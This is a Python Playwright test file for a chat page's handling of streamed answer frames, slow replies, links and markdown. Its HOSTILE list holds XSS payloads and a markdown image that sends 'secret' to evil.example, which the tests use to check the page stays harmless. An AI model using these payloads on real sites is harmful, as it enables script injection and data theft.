"""The chat page when frames come twice, late, in an odd order or not at all, and when the model is hostile."""

from typing import Any

import pytest
from playwright.sync_api import Browser, Locator, Page, expect

from tests.simulator.chat_page import a_page, every_state_shown, expect_to_fit, open_chat, write
from tests.simulator.chat_server import OTHER, YOU, ChatServer
from tests.simulator.chromium import needs_chromium

pytestmark = needs_chromium


HOW_LONG_WITHOUT_A_WORD = "(began) => [document.querySelector('.footer').hidden, performance.now() - began]"


def asked(chat: Page, bot: ChatServer, text: str = "Tell me") -> str:
    open_chat(chat, bot)
    write(chat, text)
    return bot.ask()


def test_words_that_come_twice_are_shown_once(chat: Page, bot: ChatServer):
    turn = asked(chat, bot)
    bot.say(turn, "one ", "two ")
    bot.say(turn, "one ", "two ", "three")
    bot.tell("question", turn=turn, **{"from": YOU}, text="Tell me")
    bot.complete(turn, 3)
    bot.say(turn, "three", seq=3)
    bot.complete(turn, 3)
    expect(chat.get_by_test_id("presence")).to_have_text("Online")
    expect(chat.get_by_test_id("answer")).to_have_text(["one two three"])
    expect(chat.get_by_test_id("question")).to_have_count(1)


def test_words_that_are_missing_are_asked_for_and_shown_in_their_place(chat: Page, bot: ChatServer):
    turn = asked(chat, bot)
    bot.say(turn, "one ")
    bot.say(turn, "three ", "four ", seq=3)
    assert bot.heard("resume") == {"action": "resume", "turn": turn, "seq": 1}
    bot.say(turn, "two ", "three ", "four ", "five", seq=2)
    bot.complete(turn, 5)
    expect(chat.get_by_test_id("answer")).to_have_text("one two three four five")
    assert all("one two three four five".startswith(shown.strip()) for shown in every_state_shown(chat))
    assert bot.heard_no_more("resume") or bot.heard("resume")["seq"] == 1  # a slow machine: repeated after 3 s


def test_the_end_of_an_answer_that_never_came_is_asked_for(chat: Page, bot: ChatServer):
    turn = asked(chat, bot)
    bot.say(turn, "one ")
    bot.complete(turn, 3, footer="(the end)")
    assert bot.heard("resume") == {"action": "resume", "turn": turn, "seq": 1}
    bot.tell("snapshot", turn=turn, seq=2, text="one two ")
    bot.say(turn, "three", seq=3)
    expect(chat.get_by_test_id("answer")).to_have_text("one two three")
    expect(chat.locator(".footer")).to_have_text("(the end)")


def test_a_resume_without_a_response_is_repeated(chat: Page, bot: ChatServer):
    chat.clock.install()
    turn = asked(chat, bot)
    bot.say(turn, "two", seq=2)
    bot.heard("resume")
    chat.clock.run_for(5_000)
    assert bot.heard("resume") == {"action": "resume", "turn": turn, "seq": 0}


def test_an_answer_that_falls_silent_is_asked_for(chat: Page, bot: ChatServer):
    chat.clock.install()
    turn = asked(chat, bot)
    bot.say(turn, "one ")
    expect(chat.get_by_test_id("answer")).to_have_text("one")
    for _ in range(40):  # in steps, so that each `pong` arrives within its time
        chat.clock.run_for(1_000)
    assert bot.heard("resume") == {"action": "resume", "turn": turn, "seq": 1}
    bot.tell("snapshot", turn=turn, seq=2, text="one two")
    bot.complete(turn, 2)
    expect(chat.get_by_test_id("answer")).to_have_text("one two")


def test_an_answer_whose_end_never_came_is_asked_for_when_the_next_one_begins(chat: Page, bot: ChatServer):
    first = asked(chat, bot, "First?")
    bot.say(first, "one ")
    write(chat, "Second?")
    second = bot.ask()
    assert bot.heard("resume") == {"action": "resume", "turn": first, "seq": 1}
    bot.tell("snapshot", turn=first, seq=2, text="one two")
    bot.complete(first, 2)
    bot.say(second, "three")
    bot.complete(second, 1)
    expect(chat.get_by_test_id("answer")).to_have_text(["one two", "three"])


def test_words_that_come_after_the_whole_answer_or_a_notice_change_nothing(chat: Page, bot: ChatServer):
    turn = asked(chat, bot)
    bot.say(turn, "It ")
    bot.facts["history"] = [
        {"turn": turn, "from": YOU, "question": "Tell me", "answer": "It is over.", "state": "done"}
    ]
    bot.break_off()
    expect(chat.get_by_test_id("answer")).to_have_text("It is over.")
    bot.say(turn, "is ", seq=2)
    bot.facts["history"] = []
    write(chat, "Again?")
    refused = bot.ask()
    bot.tell("notice", turn=refused, code="apology", message="Sorry!")
    bot.say(refused, "late ")
    bot.complete(refused, 0)
    expect(chat.get_by_test_id("answer")).to_have_text(["It is over.", "Sorry!"])


def test_the_text_of_a_dropped_turn_is_withdrawn(chat: Page, bot: ChatServer):
    turn = asked(chat, bot)
    bot.say(turn, "half a")
    bot.complete(turn, 0, state="dropped")
    expect(chat.get_by_test_id("answer")).to_have_text("")


def test_late_words_of_a_dropped_turn_are_not_shown(chat: Page, bot: ChatServer):
    """Who has everything deleted in one tab drops the answer in another one, whose worker may speak for a second."""
    turn = asked(chat, bot)
    bot.say(turn, "half ", "a")
    bot.complete(turn, 0, state="dropped")
    bot.say(turn, " secret", seq=3)
    bot.say(turn, " and more", seq=5)
    bot.tell("snapshot", turn=turn, seq=6, text="half a secret and more")
    bot.tell("notice", turn=turn, code="apology", message="Sorry for the secret.")
    write(chat, "Again?")
    bot.complete(bot.ask(), 0)
    expect(chat.locator("[data-testid=turn][data-state=done]")).to_have_count(1)
    expect(chat.get_by_test_id("answer").first).to_have_text("")
    expect(chat.get_by_test_id("turn").first).not_to_contain_text("secret")
    assert bot.heard_no_more("resume")


def test_a_new_attempt_after_a_crash_begins_from_nothing(chat: Page, bot: ChatServer):
    turn = asked(chat, bot)
    bot.say(turn, "I would ", "say")
    expect(chat.get_by_test_id("answer")).to_have_text("I would say")
    bot.tell("snapshot", turn=turn, seq=0, text="")
    expect(chat.get_by_test_id("answer")).to_have_text("")
    expect(chat.locator(".dots")).to_be_visible()
    bot.say(turn, "On second thoughts: no.")
    bot.complete(turn, 1)
    expect(chat.get_by_test_id("answer")).to_have_text("On second thoughts: no.")


def test_a_question_that_is_answered_before_it_is_accepted_is_shown_once(chat: Page, bot: ChatServer):
    open_chat(chat, bot)
    write(chat, "Quick!")
    frame = bot.heard("send_message")
    turn = bot.next_turn()
    bot.tell("question", turn=turn, **{"from": YOU}, text="Quick!")
    bot.say(turn, "Done.")
    bot.complete(turn, 1)
    expect(chat.get_by_test_id("answer")).to_have_text("Done.")
    bot.tell("accepted", turn=turn, id=frame["id"])
    expect(chat.get_by_test_id("question")).to_have_text(["Quick!"])
    bot.break_off()
    bot.heard("authenticate")
    write(chat, "Next")
    assert bot.heard("send_message")["message"] == "Next"


def test_an_answer_that_ended_while_nobody_was_connected_is_there_afterwards(chat: Page, bot: ChatServer):
    turn = asked(chat, bot)
    bot.say(turn, "It ")
    whole = {"turn": turn, "from": YOU, "question": "Tell me", "answer": "It is over.", "state": "done"}
    earlier = {"turn": "0", "from": OTHER, "question": "Earlier?", "answer": "Yes.", "state": "done"}
    bot.facts["history"] = [earlier, whole]
    bot.break_off()
    expect(chat.get_by_test_id("answer")).to_have_text(["Yes.", "It is over."])
    expect(chat.get_by_test_id("question")).to_have_text(["Earlier?", "Tell me"])
    expect(chat.get_by_test_id("stop")).to_be_hidden()


@pytest.mark.parametrize(
    ("language", "words"),
    [
        ("en-GB", "This takes a little longer…"),
        ("de-AT", "Das dauert etwas länger…"),
        ("ko-KR", "조금 더 걸리고 있습니다…"),
        ("fi-FI", "This takes a little longer…"),
    ],
)
def test_after_ten_seconds_without_a_word_the_page_says_that_it_takes_longer(
    browser: Browser, bot: ChatServer, language: str, words: str
):
    with a_page(browser, bot.url, locale=language) as chat:
        chat.clock.install()
        open_chat(chat, bot)
        began = chat.evaluate("performance.now()")
        write(chat, "Tell me")
        turn = bot.ask()
        expect(chat.locator(".dots")).to_be_visible()
        chat.clock.run_for(8_000)
        is_hidden, waited = chat.evaluate(HOW_LONG_WITHOUT_A_WORD, began)
        assert is_hidden or waited >= 10_000  # the clock goes on meanwhile, and a machine may be slow
        chat.clock.run_for(4_000)
        expect(chat.locator(".footer")).to_have_text(words)
        expect(chat.locator("#read-out")).to_have_text(words)
        bot.say(turn, "Here it is.")
        chat.clock.run_for(1_000)
        expect(chat.get_by_test_id("answer")).to_have_text("Here it is.")
        expect(chat.locator(".footer")).to_be_hidden()


def test_an_answer_that_began_in_time_and_pauses_is_not_called_slow(chat: Page, bot: ChatServer):
    chat.clock.install()
    turn = asked(chat, bot)
    bot.say(turn, "One moment")
    expect(chat.get_by_test_id("answer")).to_have_text("One moment")
    chat.clock.run_for(20_000)
    expect(chat.get_by_test_id("answer")).to_have_text("One moment")
    expect(chat.locator(".footer")).to_be_hidden()


def test_a_slow_answer_that_fails_shows_the_notice_alone(chat: Page, bot: ChatServer):
    chat.clock.install()
    turn = asked(chat, bot)
    chat.clock.run_for(12_000)
    bot.tell("notice", turn=turn, code="apology", message="I am sorry.")
    bot.complete(turn, 0)
    chat.clock.run_for(1_000)
    expect(chat.get_by_test_id("answer")).to_have_text("I am sorry.")
    expect(chat.locator(".footer")).to_be_hidden()


def test_a_turn_that_nobody_answers_says_so(chat: Page, bot: ChatServer):
    turn = asked(chat, bot)
    bot.complete(turn, 0, state="dropped")
    expect(chat.locator(".footer")).to_have_text("This was not answered.")


def test_frames_of_a_later_bot_are_no_trouble(chat: Page, bot: ChatServer):
    turn = asked(chat, bot)
    bot.tell("weather", turn="x", sky="blue")
    bot.tell("error", code="something_new", message="?")
    bot.say(turn, "Fine.")
    bot.complete(turn, 1)
    expect(chat.get_by_test_id("answer")).to_have_text("Fine.")


HOSTILE = [
    "<img src=x onerror=\"document.title='owned'\">",
    "<script>document.title='owned'</script>",
    "<svg onload=\"document.title='owned'\"><a xlink:href=\"javascript:document.title='owned'\">x</a></svg>",
    "<iframe srcdoc=\"<script>parent.document.title='owned'</script>\"></iframe>",
    "<style>* { display: none !important }</style>",
    "<form action=https://evil.example><input name=x><button id=words>send</button></form>",
    "[click](javascript:document.title='owned')",
    "[click](JaVaScRiPt&#58;document.title='owned')",
    "[click](data:text/html,<script>alert(1)</script>)",
    "[click](vbscript:x) [click](//evil.example/x) [click](/prod/chat) [click](\\x01javascript:x)",
    '[click](https://evil.example "a\\" onmouseover=\\"document.title=1")',
    "![secret](https://evil.example/?q=secret)",
    "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
    "<a href=https://evil.example onclick=alert(1) id=send name=body>x</a>",
    "`<img src=x onerror=alert(1)>` and\n\n```html\n<img src=x onerror=alert(1)>\n```",
    "[x]: javascript:alert(1)\n\n[x]",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
]


def test_a_hostile_answer_runs_and_loads_nothing(chat: Page, bot: ChatServer):
    open_chat(chat, bot)
    for number, hostile in enumerate(HOSTILE):
        write(chat, "Tell me")
        turn = bot.ask()
        for place, letter in enumerate([*hostile, "\n\nThe end"], start=1):
            bot.tell("delta", turn=turn, seq=place, text=letter)
        bot.complete(turn, len(hostile) + 1)
        answer = chat.get_by_test_id("answer").nth(number)
        expect(answer).to_contain_text("The end")
        assert chat.title() == "Aunt Mary", hostile
        is_harmless(answer)


def is_harmless(answer: Locator) -> None:
    """Check that nothing in an answer runs, loads or leads anywhere but where it says."""
    ours = ".copy-code, .copy-code *"
    elements = "img, script, iframe, object, embed, svg, math, form, input, button, style, video"
    assert answer.locator(f":is({elements}):not({ours})").count() == 0
    assert (
        answer.locator(f":is([id], [name], [style], [class], [srcset], [src]):not(.wide, .code, {ours})").count() == 0
    )
    attributes = "nodes => nodes.flatMap(node => node.getAttributeNames())"
    assert not [name for name in answer.locator("*").evaluate_all(attributes) if name.startswith("on")]
    for link in answer.locator("a[href]").all():
        assert (link.get_attribute("href") or "").startswith("https://evil.example")
        assert link.get_attribute("rel") == "noopener noreferrer nofollow"
        assert link.get_attribute("target") == "_blank"
        assert link.get_attribute("data-leads") == "evil.example"


LINKS = {
    "<https://example.com/a>": None,
    "https://example.com": None,
    "[example.com](https://example.com/a?b)": None,
    "[our shop](https://example.com)": "example.com",
    "[https://bank.example](https://evil.example)": "evil.example",
    "[https://evil.example.com](https://evil.example)": "evil.example",
    "https://bank.example@evil.example/x": "evil.example",
    "[https://bücher.example](https://bücher.example)": "xn--bcher-kva.example",
    "[write to me](mailto:me@example.com)": "me@example.com",
    "[call me](tel:+49-30-123)": "+4930123",
    "[+49 (30) 123](tel:+4930123)": None,
    "[0800 123](tel:+4990012345)": "+4990012345",
    "<me@example.com>": None,
}
"""Beside what does the host stand, because the words themselves do not say it?"""


def test_a_link_says_where_it_leads(chat: Page, bot: ChatServer):
    open_chat(chat, bot)
    write(chat, "Where?")
    bot.answer("\n\n".join(LINKS))
    links = chat.get_by_test_id("answer").locator("a[href]")
    expect(links).to_have_count(len(LINKS))
    assert [link.get_attribute("data-leads") for link in links.all()] == list(LINKS.values())


def rarely(*pieces: str) -> list[Any]:
    return [pytest.param(piece, marks=pytest.mark.full) for piece in pieces]


@pytest.mark.parametrize(
    "piece", ["a", "a**b", "[", "`", "|a", *rarely("word ", "*", "> ", "<", "- ", "1. ", "\\", "http://a.", "가나다")]
)
def test_a_line_of_100_kb_neither_stops_the_page_nor_breaks_its_layout(chat: Page, bot: ChatServer, piece: str):
    chat.set_viewport_size({"width": 360, "height": 640})
    turn = asked(chat, bot)
    line = (piece * 100_000)[:100_000]
    for place in range(20):
        bot.tell("delta", turn=turn, seq=place + 1, text=line[place * 5_000 : (place + 1) * 5_000])
    bot.say(turn, "\n\nThe end", seq=21)
    chat.get_by_test_id("composer").fill("Still there?")
    bot.complete(turn, 21)
    expect(chat.get_by_test_id("answer")).to_contain_text("The end")
    expect(chat.get_by_test_id("stop")).to_be_hidden()
    expect_to_fit(chat, 360)


def test_markdown_becomes_what_it_means(chat: Page, bot: ChatServer):
    open_chat(chat, bot)
    write(chat, "Show me")
    bot.answer(
        "# Title\n\n*a* **b** ~~c~~ `d`\n\n- [x] one\n- two\n\n3. three\n\n> said\n\n|A|\n|-|\n|1|\n\n```py\nx < 1\n```"
    )
    answer = chat.get_by_test_id("answer")
    for mark in (
        "h2",
        "em",
        "strong",
        "del",
        "p code",
        "ul li",
        "ol[start='3'] li",
        "blockquote",
        ".wide td",
        "pre code",
    ):
        expect(answer.locator(mark).first).to_be_visible()
    expect(answer.locator("pre")).to_have_text("x < 1")
    expect(answer.locator("li").first).to_have_text("☑ one")


def test_a_picture_becomes_a_link_that_nobody_follows_unasked(chat: Page, bot: ChatServer):
    open_chat(chat, bot)
    write(chat, "Show me")
    bot.answer("Look: ![a rose](https://example.com/rose.png)")
    link = chat.get_by_test_id("answer").get_by_role("link", name="a rose")
    expect(link).to_have_attribute("href", "https://example.com/rose.png")
